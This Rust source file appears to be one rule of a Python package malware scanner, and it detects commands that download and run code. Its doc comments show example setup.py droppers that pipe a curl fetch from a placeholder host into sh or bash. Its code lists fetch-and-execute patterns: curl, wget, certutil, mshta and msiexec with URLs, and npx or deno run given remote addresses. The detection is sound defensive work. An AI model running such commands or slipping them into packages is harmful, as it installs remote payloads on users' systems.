//! ## What it detects
//!
//! A shell or PowerShell command that fetches something and runs it (`curl ... | sh`, `iwr ... -OutFile`, `DownloadFile`), or a program of Windows that runs what an address gives (`mshta`, `msiexec`, `regsvr32`).
//!
//! ## Why it is bad
//!
//! It is a dropper written in another language than the package.
//!
//! ## Innocent lookalikes
//!
//! Documentation and CI scripts say such things; calls in code do not.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os
//! os.system('curl -s http://x.example.invalid/a | sh')
//! ```
//!
//! ## Bad
//!
//! ```python setup.py
//! import subprocess
//! subprocess.run(['bash', '-c', '$(curl -s http://x.example.invalid/a)'])
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os
//! os.system('curl --version')
//! ```

use fondaco_python::{Api, Language};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::commands::commands;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("command-download"),
    title: "a command downloads and runs",
    severity: Severity::High,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 2.0,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Shell)) {
        let runs = |text: &str| fetches_and_runs(text) || text.len() < 20_000 && runs_address(&text.to_ascii_lowercase());
        let whole = || call.trigger.is_some_and(Trigger::is_unasked) && commands(call).iter().any(|text| runs(text));
        if call.texts().iter().any(|text| fetches_and_runs(text)) || whole() {
            hits.call(unit, call, "a command that fetches something and runs it");
        }
    }
    for unit in package.units().filter(|unit| unit.layer > 0 && unit.language != Language::Python) {
        if fetches_and_runs(&unit.text) {
            hits.line(unit, 1, "a hidden command that fetches something and runs it");
        }
    }
}

pub(super) fn fetches_and_runs(text: &str) -> bool {
    let text = text.to_ascii_lowercase();
    let fetches = ["curl ", "wget ", "invoke-webrequest", "iwr ", "downloadfile", "downloadstring", "bitsadmin", "certutil -urlcache"];
    let runs = ["| sh", "|sh", "| bash", "|bash", "| python", "|python", "start-process", "iex", "invoke-expression", "chmod +x", "&& ./", "start ", ".exe"];
    // Programs of Windows that run what they are given the address of.
    let hosts = ["mshta http", "mshta.exe http", "/i:http", "msiexec /i http", "msiexec /q /i http", "mshta vbscript:", "mshta javascript:"];
    text.len() < 20_000 && runs_answer(&text) || text.len() < 20_000 && hosts.iter().any(|host| text.contains(host)) || text.len() < 20_000 && fetches.iter().any(|f| text.contains(f)) && runs.iter().any(|r| text.contains(r))
}

/// Whether a shell is told to run what was fetched: `bash -c "$(curl ...)"`.
fn runs_answer(text: &str) -> bool {
    const SHELLS: [&str; 9] =
        ["-c \"$(", "-c '$(", "-c $(", "-c \"`", "eval \"$(", "eval $(", "eval `", "sh <(", "source <("];
    ["curl ", "wget "].iter().any(|tool| {
        let within = |shell: &str| text.match_indices(shell).any(|(at, _)| text[at + shell.len()..].starts_with(tool));
        SHELLS.iter().any(|shell| within(shell)) || text.strip_prefix("$(").is_some_and(|rest| rest.starts_with(tool))
    })
}

/// Whether a runner of scripts or packages is given an address in place of a name: `deno run https://...`.
fn runs_address(text: &str) -> bool {
    const RUNNERS: [&str; 7] = ["deno run", "bun x", "bunx", "npx", "pnpm dlx", "uvx", "pipx run"];
    let is_word = |at: usize| at == 0 || text[..at].ends_with([' ', '/', '\\', '"', '\'']);
    RUNNERS.iter().any(|runner| {
        text.match_indices(runner).any(|(at, _)| {
            let command = text[at + runner.len()..].split([';', '|', '&', '\n']).next().unwrap_or_default();
            let remote = |word: &str| word.starts_with("https://") || word.starts_with("http://") || word.starts_with("git+");
            is_word(at) && command.starts_with(' ') && command.split_whitespace().any(remote)
        })
    })
}
